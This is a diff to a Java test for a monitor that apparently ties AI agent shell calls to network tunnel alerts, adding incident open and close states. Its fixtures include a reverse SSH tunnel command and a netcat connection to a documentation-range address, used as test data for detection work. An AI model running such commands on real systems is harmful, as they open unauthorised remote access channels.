@@ -13,6 +13,7 @@ import io.vigil.records.Destination;
 import io.vigil.records.Evidence;
 import io.vigil.records.GpuProcess;
 import io.vigil.records.GpuSample;
+import io.vigil.records.IncidentState;
 import io.vigil.records.ProcessEvidence;
 import io.vigil.records.Severity;
 import java.time.Instant;
@@ -61,7 +62,8 @@ class AgentContextHarnessTest {
     }
 
     void send(AgentEvent call) throws Exception {
-        harness.processElement(new StreamRecord<>(AgentContextInput.of(call), call.getTs().toEpochMilli()));
+        harness.processElement(
+                new StreamRecord<>(AgentContextInput.of(call), call.getTs().toEpochMilli()));
     }
 
     void seen(String ip, int port, long ts) throws Exception {
@@ -91,7 +93,8 @@ class AgentContextHarnessTest {
     }
 
     void alert(Alert a) throws Exception {
-        harness.processElement(new StreamRecord<>(AgentContextInput.of(a), a.getWindowEnd().toEpochMilli()));
+        harness.processElement(
+                new StreamRecord<>(AgentContextInput.of(a), a.getWindowEnd().toEpochMilli()));
     }
 
     static Alert tunnelAlert(int minute) {
@@ -113,7 +116,9 @@ class AgentContextHarnessTest {
         seen("203.0.113.7", 22, first);
         alert(tunnelAlert(3));
         harness.processWatermark(new Watermark(at(4)));
-        assertThat(harness.extractOutputValues()).as("waits for calls that end after the window").isEmpty();
+        assertThat(harness.extractOutputValues())
+                .as("waits for calls that end after the window")
+                .isEmpty();
 
         // the tunnel's call started before the packet but ended after the window: it still arrives in time
         send(call("ep-tunnel", first - 1_800, at(4) + 5_000, "ssh -N -R 2222:localhost:22 agent@203.0.113.7"));
@@ -168,10 +173,20 @@ class AgentContextHarnessTest {
         for (int i = 0; i < AgentContext.MAX_CALLS_PER_MINUTE + 50; i++) {
             send(call("ep-" + i, at(1) + i, at(1) + i + 10, "ls"));
         }
+        send(call("ep-nc", at(3) + 9_000, at(3) + 9_500, "nc 203.0.113.7 22"));
         seen("203.0.113.7", 22, at(3) + 10_000);
-        alert(tunnelAlert(3));
+        Alert open = Alert.newBuilder(tunnelAlert(3))
+                .setIncidentId("incident-1")
+                .setIncidentState(IncidentState.OPEN)
+                .build();
+        alert(open);
+        alert(Alert.newBuilder(open).setIncidentState(IncidentState.CLOSE).build());
         harness.processWatermark(new Watermark(at(4) + AgentContext.CALL_GRACE_MS));
-        assertThat(harness.extractOutputValues()).hasSize(1);
+        assertThat(harness.extractOutputValues()).hasSize(2);
+        assertThat(harness.extractOutputValues())
+                .allSatisfy(a -> assertThat(a.getAgentContext())
+                        .extracting(AgentEpisode::getEpisodeId)
+                        .startsWith("ep-nc"));
         assertThat(harness.numKeyedStateEntries()).isPositive();
 
         harness.processWatermark(new Watermark(at(4) + AgentContext.HORIZON_MS + 60_000));
